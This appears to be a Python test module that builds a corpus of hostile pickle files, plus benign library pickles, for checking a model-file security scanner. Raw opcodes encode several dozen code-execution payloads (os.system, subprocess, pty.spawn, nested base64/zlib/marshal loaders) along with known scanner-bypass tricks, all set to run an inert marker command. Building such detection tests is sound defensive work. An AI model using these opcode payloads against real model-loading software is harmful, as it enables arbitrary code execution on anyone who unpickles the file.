"""The pickle half of the test corpus: hostile pickles built from raw opcodes, and benign files
written by the real libraries.

Every hostile payload is inert *and* observable: the shell command it would run is
``echo x > MARKER`` for a marker path the test chooses, so a test proves nothing ran by checking
that the marker file does not exist. No payload is ever built by pickling a live object with a
side effect; ``__reduce__`` classes below only return tuples.

Run ``python -m tests.scan.corpus_pickle OUT_DIR`` to write the corpus to a folder.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

# -- opcode helpers ---------------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def sbu(s: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binunicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def binbytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two short strings."""
    return sbu(module) + sbu(name) + b"\x93"


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def shell(marker: Path) -> str:
    return f"echo x > {marker}"


def call1(callee: bytes, arg: bytes) -> bytes:
    """callee(arg) via TUPLE1 + REDUCE."""
    return callee + arg + b"\x85R"


# -- the hostile corpus -----------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile file: its bytes, the exact finding codes it raises, and the bypass it shows."""

    name: str
    data: bytes
    codes: frozenset[str]
    bypass: str
    complete: bool = True


def _reduce_payload(marker: Path, protocol: int) -> bytes:
    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            import os

            return (os.system, (shell(marker),))

    return pickle.dumps(Payload(), protocol=protocol)


def hostile_pickles(marker: Path) -> list[Case]:
    """Every public pickle bypass class in the research notes, as inert files."""
    cmd = shell(marker)
    s0 = f"S'{cmd}'\n".encode()
    inner = proto(4) + call1(sglob("os", "system"), sbu(cmd)) + b"."
    return [
        # Direct payloads, every protocol (pickled via __reduce__, which returns a tuple only).
        *(
            Case(
                f"direct-p{p}",
                _reduce_payload(marker, p),
                frozenset({"AISEC-PKL-002"}),
                "direct os.system",
            )
            for p in range(6)
        ),
        Case(
            "global-text",
            glob("os", "system") + b"(" + s0 + b"tR.",
            frozenset({"AISEC-PKL-002"}),
            "direct, protocol 0 text",
        ),
        Case(
            "py2-builtin-eval",
            glob("__builtin__", "eval") + b"(" + s0 + b"tR.",
            frozenset({"AISEC-PKL-001"}),
            "Python 2 name mapped by fix_imports",
        ),
        Case(
            "subprocess",
            proto(2) + glob("subprocess", "check_output") + b"(" + s0 + b"tR.",
            frozenset({"AISEC-PKL-002"}),
            "direct subprocess",
        ),
        # 1. Blocklist gaps: string-to-callable and code-running helpers nobody listed.
        Case(
            "pkgutil-resolve",
            proto(4)
            + call1(sglob("pkgutil", "resolve_name"), sbu("os:system"))
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-003", "AISEC-PKL-008"}),
            "pkgutil.resolve_name universal",
        ),
        Case(
            "importlib",
            proto(4) + glob("importlib", "import_module") + sbu("os") + b"\x85R" + b"0N.",
            frozenset({"AISEC-PKL-003"}),
            "importlib chain",
        ),
        Case(
            "collect-env",
            proto(4) + call1(sglob("torch.utils.collect_env", "run"), sbu(cmd)) + b".",
            frozenset({"AISEC-PKL-002"}),
            "torch.utils.collect_env.run",
        ),
        Case(
            "spawnv-passfds",
            proto(4)
            + call1(sglob("multiprocessing.util", "spawnv_passfds"), sbu("/bin/sh"))
            + b".",
            frozenset({"AISEC-PKL-002"}),
            "multiprocessing.util.spawnv_passfds",
        ),
        Case(
            "read-csv",
            proto(4) + call1(sglob("pandas", "read_csv"), sbu("http://127.0.0.1:9/x.csv")) + b".",
            frozenset({"AISEC-PKL-005"}),
            "pandas.read_csv exfiltration",
        ),
        Case(
            "uuid-popen",
            proto(4) + call1(sglob("uuid", "_get_command_stdout"), sbu("sh")) + b".",
            frozenset({"AISEC-PKL-002"}),
            "uuid private helper",
        ),
        Case(
            "runpy",
            proto(4) + call1(sglob("runpy", "_run_code"), sbu("pass")) + b".",
            frozenset({"AISEC-PKL-001"}),
            "runpy (fickling GHSA list)",
        ),
        Case(
            "cprofile",
            proto(4) + call1(sglob("cProfile", "run"), sbu("pass")) + b".",
            frozenset({"AISEC-PKL-001"}),
            "cProfile.run",
        ),
        Case(
            "pty",
            proto(4) + call1(sglob("pty", "spawn"), sbu("/bin/true")) + b".",
            frozenset({"AISEC-PKL-002"}),
            "pty.spawn",
        ),
        Case(
            "ctypes",
            proto(4) + call1(sglob("ctypes", "CDLL"), sbu("libc.so.6")) + b".",
            frozenset({"AISEC-PKL-001"}),
            "ctypes",
        ),
        Case(
            "pydoc-pipepager",
            proto(4) + call1(sglob("pydoc", "pipepager"), sbu("x")) + b".",
            frozenset({"AISEC-PKL-001"}),
            "pydoc.pipepager",
        ),
        Case(
            "interpreters",
            proto(4) + call1(sglob("_interpreters", "run_string"), sbu("x")) + b".",
            frozenset({"AISEC-PKL-001"}),
            "_interpreters",
        ),
        # 2. Exact-name matching: a submodule of a dangerous package.
        Case(
            "asyncio-transport",
            proto(4) + sglob("asyncio.unix_events", "_UnixSubprocessTransport") + b".",
            frozenset({"AISEC-PKL-002"}),
            "CVE-2025-10157 submodule",
        ),
        Case(
            "dotted-attr-chain",
            proto(4) + sglob("numpy", "ctypeslib.ctypes.CDLL") + b".",
            frozenset({"AISEC-PKL-001"}),
            "protocol-4 dotted name through an allowed module",
        ),
        Case(
            "numpy-builtins",
            proto(4) + sglob("numpy", "__builtins__") + b".",
            frozenset({"AISEC-PKL-001"}),
            "numpy.__builtins__ (modelscan #330)",
        ),
        # Indirection: getattr/__import__ turn strings into callables.
        Case(
            "getattr-import",
            glob("builtins", "getattr")
            + b"("
            + glob("builtins", "__import__")
            + b"(S'os'\ntRS'system'\ntR("
            + s0
            + b"tR.",
            frozenset({"AISEC-PKL-001", "AISEC-PKL-008"}),
            "getattr(__import__('os'),...)",
        ),
        Case(
            "getattr-on-allowed",
            proto(4)
            + sglob("builtins", "getattr")
            + sglob("collections", "OrderedDict")
            + sbu("__subclasses__")
            + b"\x86R)R.",
            frozenset({"AISEC-PKL-001"}),
            "getattr on an allowed class reaching interpreter internals",
        ),
        Case(
            "getattr-submodule",
            proto(4)
            + sglob("builtins", "getattr")
            + sglob("torch", "serialization")
            + sbu("load")
            + b"\x86R.",
            frozenset({"AISEC-PKL-001", "AISEC-PKL-006"}),
            "getattr walking from a module to a loader",
        ),
        Case(
            "partial-swapped-by-build",
            proto(4)
            + sglob("functools", "partial")
            + sglob("numpy", "add")
            + b"\x85R"
            + b"("
            + sglob("builtins", "getattr")
            + b")}Ntb.",
            frozenset({"AISEC-PKL-001"}),
            "functools.partial of an allowed function, swapped by BUILD state",
        ),
        Case(
            "partial-of-system",
            proto(4) + sglob("functools", "partial") + sglob("os", "system") + b"\x85R.",
            frozenset({"AISEC-PKL-001", "AISEC-PKL-002"}),
            "functools.partial wrapping a process call",
        ),
        # 3. Memo / STACK_GLOBAL without a real stack.
        Case(
            "memo-text",
            glob("os", "system") + b"p7\n0g7\n(" + s0 + b"tR.",
            frozenset({"AISEC-PKL-002"}),
            "protocol-0 PUT/GET around the global",
        ),
        Case(
            "memo-names",
            proto(4)
            + sbu("os")
            + b"\x94"
            + sbu("system")
            + b"\x94"
            + b"h\x00h\x01\x93"
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-002"}),
            "STACK_GLOBAL over memoized names",
        ),
        Case(
            "put-memoize-mix",
            proto(4)
            + sbu("posix")
            + b"q\x05"
            + sbu("collections")
            + b"\x94"
            + sbu("system")
            + b"\x94"
            + b"h\x05h\x01\x93"
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-002"}),
            "PUT/MEMOIZE mixing (picklescan #14, #22)",
        ),
        Case(
            "memo-overwrite",
            proto(4)
            + sglob("collections", "OrderedDict")
            + b"q\x00"
            + b"0"
            + sglob("os", "system")
            + b"q\x00"
            + b"0"
            + b"h\x00"
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-002"}),
            "memo slot overwritten after a safe global",
        ),
        Case(
            "computed-name",
            proto(4)
            + call1(sglob("_codecs", "encode"), sbu("os"))
            + sbu("system")
            + b"\x93"
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-007", "AISEC-PKL-008"}),
            "STACK_GLOBAL over a computed name",
        ),
        Case(
            "build-on-global",
            proto(4)
            + sglob("collections", "OrderedDict")
            + b"}"
            + sbu("x")
            + sglob("os", "system")
            + b"sb.",
            frozenset({"AISEC-PKL-009", "AISEC-PKL-002"}),
            "BUILD on an imported object (#85)",
        ),
        Case(
            "build-dunder",
            proto(4) + sglob("collections", "OrderedDict") + b")R}" + sbu("__class__") + b"Nsb.",
            frozenset({"AISEC-PKL-009"}),
            "BUILD state reaching interpreter internals",
        ),
        # INST / OBJ / NEWOBJ / NEWOBJ_EX
        Case("inst", b"(" + s0 + b"ios\nsystem\n.", frozenset({"AISEC-PKL-002"}), "INST"),
        Case("obj", b"(" + glob("os", "system") + s0 + b"o.", frozenset({"AISEC-PKL-002"}), "OBJ"),
        Case(
            "obj-popped",
            b"(" + glob("os", "system") + s0 + b"o0N.",
            frozenset({"AISEC-PKL-002"}),
            "OBJ result POPped (GHSA-mxhj-88fx-4pcv)",
        ),
        Case(
            "newobj",
            proto(2) + glob("subprocess", "Popen") + b"(" + s0 + b"t\x81.",
            frozenset({"AISEC-PKL-002"}),
            "NEWOBJ",
        ),
        Case(
            "newobj-ex",
            proto(4) + sglob("subprocess", "Popen") + sbu(cmd) + b"\x85}\x92.",
            frozenset({"AISEC-PKL-002"}),
            "NEWOBJ_EX",
        ),
        # FRAME abuse and parser differentials.
        Case(
            "frame-straddle",
            proto(4)
            + frame(sglob("os", "system")[:-3])
            + sglob("os", "system")[-3:]
            + sbu(cmd)
            + b"\x85R.",
            frozenset({"AISEC-PKL-010", "AISEC-PKL-002"}),
            "opcode straddles a FRAME",
        ),
        Case(
            "frame-nested",
            proto(4)
            + b"\x95"
            + struct.pack("<Q", 40)
            + frame(sglob("os", "system") + sbu(cmd) + b"\x85R.")
            + b"",
            frozenset({"AISEC-PKL-010", "AISEC-PKL-002"}),
            "FRAME inside a FRAME",
        ),
        Case(
            "stacked",
            pickle.dumps({"w": [1.0]}, protocol=4) + inner,
            frozenset({"AISEC-PKL-002"}),
            "payload in the second of stacked pickles",
        ),
        Case(
            "broken-after-payload",
            inner[:-1] + b"\x85\xff\xff",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-020"}),
            "nullifAI: broken right after",
            complete=False,
        ),
        Case(
            "truncated",
            inner[:-4],
            frozenset({"AISEC-PKL-002", "AISEC-PKL-020"}),
            "truncated after the payload",
            complete=False,
        ),
        Case(
            "ext-code",
            proto(2) + b"\x82\x01" + b")R.",
            frozenset({"AISEC-PKL-011", "AISEC-PKL-008"}),
            "extension registry",
        ),
        Case(
            "setitem-on-list",
            proto(2) + b"]" + b"K\x00K\x01s.",
            frozenset({"AISEC-PKL-014"}),
            "SETITEM on a list (CVE-2026-24747)",
        ),
        # Nested payloads.
        Case(
            "nested-pickle",
            proto(4) + call1(sglob("pickle", "loads"), binbytes(inner)) + b".",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001"}),
            "pickle.loads(bytes)",
        ),
        Case(
            "nested-base64",
            proto(4)
            + sglob("pickle", "loads")
            + call1(sglob("base64", "b64decode"), sbu(base64.b64encode(inner).decode()))
            + b"\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001", "AISEC-PKL-006"}),
            "pickle.loads(base64.b64decode(str))",
        ),
        Case(
            "nested-zlib",
            proto(4)
            + sglob("_pickle", "loads")
            + call1(sglob("zlib", "decompress"), binbytes(zlib.compress(inner)))
            + b"\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001", "AISEC-PKL-006"}),
            "pickle.loads(zlib.decompress(b))",
        ),
        Case(
            "nested-latin1",
            proto(2)
            + glob("pickle", "loads")
            + glob("_codecs", "encode")
            + binunicode(inner.decode("latin-1"))
            + sbu("latin1")
            + b"\x86R\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001"}),
            "pickle.loads(_codecs.encode(str))",
        ),
        Case(
            "nested-marshal",
            proto(4)
            + sglob("types", "FunctionType")
            + call1(sglob("marshal", "loads"), binbytes(marshal.dumps(compile("1", "x", "eval"))))
            + b"}\x86R.",
            frozenset({"AISEC-PKL-001"}),
            "marshal.loads + FunctionType",
        ),
        Case(
            "nested-torch-bytes",
            proto(2) + glob("torch.storage", "_load_from_bytes") + binbytes(inner) + b"\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001"}),
            "torch.storage._load_from_bytes",
        ),
        Case(
            "nested-bytearray",
            proto(5)
            + sglob("pickle", "loads")
            + b"\x96"
            + struct.pack("<Q", len(inner))
            + inner
            + b"\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001"}),
            "pickle.loads(bytearray) via protocol-5 BYTEARRAY8",
        ),
        Case(
            "nested-memo-first",
            proto(4) + binbytes(inner) + b"\x94" + b"0" + sglob("pickle", "loads") + b"h\x00\x85R.",
            frozenset({"AISEC-PKL-002", "AISEC-PKL-001"}),
            "payload memoized before the loader",
        ),
        Case(
            "unknown-global",
            proto(4) + sglob("mylib.layers", "Custom") + b")\x81.",
            frozenset({"AISEC-PKL-006"}),
            "a class the allowlist does not know",
        ),
    ]


BYPASS_CLASSES: dict[str, tuple[str, ...]] = {
    # The research notes' "Known bypass classes" that apply to pickles -> corpus cases.
    "direct payloads, protocols 0-5": (
        "direct-p0",
        "direct-p1",
        "direct-p2",
        "direct-p3",
        "direct-p4",
        "direct-p5",
        "global-text",
        "subprocess",
        "py2-builtin-eval",
    ),
    "1 blocklist gaps (string-to-callable, unlisted runners)": (
        "pkgutil-resolve",
        "importlib",
        "collect-env",
        "spawnv-passfds",
        "read-csv",
        "uuid-popen",
        "runpy",
        "cprofile",
        "pty",
        "ctypes",
        "pydoc-pipepager",
        "interpreters",
        "nested-marshal",
        "unknown-global",
    ),
    "2 exact-name matching (submodules, dotted names)": (
        "asyncio-transport",
        "dotted-attr-chain",
        "numpy-builtins",
        "getattr-submodule",
    ),
    "indirection via getattr/builtins/partial": (
        "getattr-import",
        "getattr-on-allowed",
        "partial-of-system",
        "partial-swapped-by-build",
    ),
    "3 memo / STACK_GLOBAL without a real stack, BUILD tricks": (
        "memo-text",
        "memo-names",
        "put-memoize-mix",
        "memo-overwrite",
        "computed-name",
        "build-on-global",
        "build-dunder",
    ),
    "INST / OBJ / NEWOBJ / NEWOBJ_EX": ("inst", "obj", "newobj", "newobj-ex", "ext-code"),
    "4 parser differentials (FRAME, stacked, broken after the payload)": (
        "frame-straddle",
        "frame-nested",
        "stacked",
        "broken-after-payload",
        "truncated",
    ),
    "5 calls invisible to AST analysis": ("obj-popped",),
    "7 weights_only memory corruption": ("setitem-on-list",),
    "nested payloads (pickle/marshal/base64/zlib/latin-1/torch bytes)": (
        "nested-pickle",
        "nested-base64",
        "nested-zlib",
        "nested-latin1",
        "nested-torch-bytes",
        "nested-bytearray",
        "nested-memo-first",
    ),
}
"""Compression (every codec) is applied to every case by :func:`compressed_variants`; scanner
crashes (class 8) are what the fuzz tests look for."""


def compressed_variants(data: bytes) -> dict[str, bytes]:
    """``data`` wrapped in every compression joblib and ``.pkl.gz`` use."""
    out = {
        "gzip": gzip.compress(data),
        "bz2": bz2.compress(data),
        "xz": lzma.compress(data),
        "lzma": lzma.compress(data, format=lzma.FORMAT_ALONE),
        "zlib": zlib.compress(data),
    }
    try:
        import lz4.frame

        out["lz4"] = lz4.frame.compress(data)
    except ImportError:  # pragma: no cover - lz4 is in the test extra
        pass
    return out


# -- benign files from the real libraries -------------------------------------------------------


def benign_objects() -> dict[str, object]:
    """Objects as data scientists pickle them (numpy, pandas, scikit-learn, torch, stdlib)."""
    import collections
    import datetime
    import decimal
    import functools
    import uuid
    import zoneinfo

    import numpy as np
    import pandas as pd
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    rng = np.random.default_rng(0)
    x = rng.random((40, 3))
    y = (x[:, 0] > 0.5).astype(int)
    return {
        "numpy": {
            "a": np.arange(10),
            "m": rng.random((4, 4)),
            "s": np.float32(1.5),
            "u": np.array(["ab", "c"]),
            "t": np.array(["2020-01-01"], dtype="M8[ns]"),
            "r": np.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
        },
        "pandas": pd.DataFrame(
            {
                "a": [1, 2],
                "b": ["x", "y"],
                "t": pd.to_datetime(["2020-01-01", "2021-01-01"]),
                "c": pd.Categorical(["u", "v"]),
            }
        ),
        "sklearn-pipeline": Pipeline([("s", StandardScaler()), ("lr", LogisticRegression())]).fit(
            x, y
        ),
        "sklearn-forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
        "sklearn-gb": GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y),
        "pandas-extras": [
            pd.Timestamp("2020-01-01", tz="Europe/Paris"),
            pd.NaT,
            pd.arrays.SparseArray([0, 1]),
            pd.array([1, None], dtype="Int64"),
            pd.Period("2020-01"),
            pd.Interval(0, 1),
        ],
        "numpy-extras": [
            np.array(["x"], dtype=np.dtypes.StringDType()),
            FunctionTransformer(np.log1p),
            functools.partial(np.add, 1),
            functools.partial(np.clip, a_min=0.0, a_max=1.0),
            FunctionTransformer(np.clip, kw_args={"a_min": 0.0, "a_max": 1.0}),
            FunctionTransformer(np.linalg.norm),
        ],
        "stdlib": [
            datetime.datetime(2020, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")),
            collections.OrderedDict(a=1),
            collections.Counter("ab"),
            collections.defaultdict(list),
            datetime.datetime(2024, 1, 1),
            datetime.timedelta(3),
            decimal.Decimal("1.1"),
            uuid.UUID(int=1),
            {1, 2},
            frozenset([3]),
            bytearray(b"x"),
            complex(1, 2),
        ],
    }


def torch_state_dict() -> object:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.BatchNorm1d(3))
    return model.state_dict()


def torch_data_pkl(state: object) -> bytes:
    """The ``data.pkl`` member of ``torch.save(state)`` (what torch.load unpickles)."""
    import zipfile

    import torch

    buf = io.BytesIO()
    torch.save(state, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        name = next(n for n in zf.namelist() if n.endswith("/data.pkl"))
        return zf.read(name)


def write_corpus(out: Path) -> list[Path]:
    """Write the hostile corpus to ``out`` (marker: ``out/MARKER``); returns the files."""
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for case in hostile_pickles(out / "MARKER"):
        path = out / f"{case.name}.pkl"
        path.write_bytes(case.data)
        written.append(path)
    return written


if __name__ == "__main__":  # pragma: no cover - maintenance entry point
    for p in write_corpus(Path(sys.argv[1])):
        print(p)
